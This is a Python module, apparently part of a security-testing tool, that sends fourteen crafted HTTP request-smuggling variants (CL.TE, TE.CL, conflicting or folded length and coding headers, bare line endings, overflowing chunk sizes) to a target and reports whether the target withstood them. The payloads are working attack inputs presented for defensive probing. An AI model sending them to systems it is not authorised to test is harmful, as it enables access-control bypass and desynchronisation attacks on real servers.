"""Requests whose end two servers may see in different places: request smuggling (RFC 9112, sections 6.3 and 11.2).

Each is sent on a connection of its own, with a second request inside that nobody has authenticated. It is withstood
where the connection brings one refusal, and nothing more.
"""

from __future__ import annotations

from collections.abc import Iterator

from modelward.attack.exchange import Finding, Reply, Request, Steps
from modelward.attack.granted import counted
from modelward.attack.target import Target

_INNER = "GET /v2/health/live HTTP/1.1\r\nHost: {host}\r\nX-Smuggled: 1\r\n\r\n"


def smuggling(target: Target) -> Steps:
    """Send each of the pairs."""
    seen: list[tuple[str, Reply]] = []
    for what, raw in pairs(target):
        seen.append((what, (yield Request("POST", target.path, raw=raw))))
    desynchronised = [what for what, reply in seen if reply.following]
    accepted = [what for what, reply in seen if reply.good]
    if desynchronised or accepted:
        told = []
        if desynchronised:
            told.append(f"a second answer came after {', '.join(desynchronised)}")
        if accepted:
            told.append(f"granted although its end is ambiguous: {', '.join(accepted)}")
        found = len({*desynchronised, *accepted})
        return Finding("Succeeded", f"{found} of {len(seen)}: {'; '.join(told)}"[:512], found, 0)
    return Finding("Withstood", f"0 of {len(seen)} were taken; answers: {counted(seen)}", 0, 0)


def pairs(target: Target) -> Iterator[tuple[str, bytes]]:
    """What each is called, and its bytes."""
    body = target.content().decode("latin-1")
    inner = _INNER.format(host=target.host)
    chunked = f"{len(body):x}\r\n{body}\r\n0\r\n\r\n"
    size = f"Content-Length: {len(body)}"
    coded = "Transfer-Encoding: chunked"
    yield "CL.TE", _request(target, (f"Content-Length: {len(chunked) + len(inner)}", coded), chunked + inner)
    yield "TE.CL", _request(target, (coded, "Content-Length: 4"), f"{len(inner):x}\r\n{inner}\r\n0\r\n\r\n")
    yield "two lengths", _request(target, (size, f"Content-Length: {len(body) + len(inner)}"), body + inner)
    yield "a list of lengths", _request(target, (f"{size}, {len(body) + len(inner)}",), body + inner)
    yield "a signed length", _request(target, (f"Content-Length: +{len(body)}",), body + inner)
    yield "a folded length", _request(target, (f"X-Folded: x\r\n {size}", "Content-Length: 0"), body + inner)
    yield "a folded coding", _request(target, (size, "Transfer-Encoding:\r\n chunked"), body + inner)
    yield "a space before the colon", _request(target, (size, "Transfer-Encoding : chunked"), body + inner)
    yield "a coding nobody knows", _request(target, (size, "Transfer-Encoding: xchunked"), body + inner)
    yield "two codings", _request(target, (coded, "Transfer-Encoding: identity"), chunked + inner)
    yield "a bare line feed", _request(target, (size, f"X: y\n{coded}"), body + inner)
    yield "a bare carriage return", _request(target, (size, f"X: y\r{coded}"), body + inner)
    yield "a chunk of a wrong size", _request(target, (coded,), f"{len(body) + 2:x};x=\n\r\n{body}\r\n0\r\n\r\n{inner}")
    yield "a chunk size that overflows", _request(target, (coded,), f"ffffffffffffffff1\r\n{body}\r\n0\r\n\r\n{inner}")


def _request(target: Target, framing: tuple[str, ...], content: str) -> bytes:
    headers = "".join(f"{name}: {value}\r\n" for name, value in target.headers().items())
    framed = "".join(f"{line}\r\n" for line in framing)
    return f"POST {target.path} HTTP/1.1\r\nHost: {target.host}\r\n{headers}{framed}\r\n{content}".encode("latin-1")
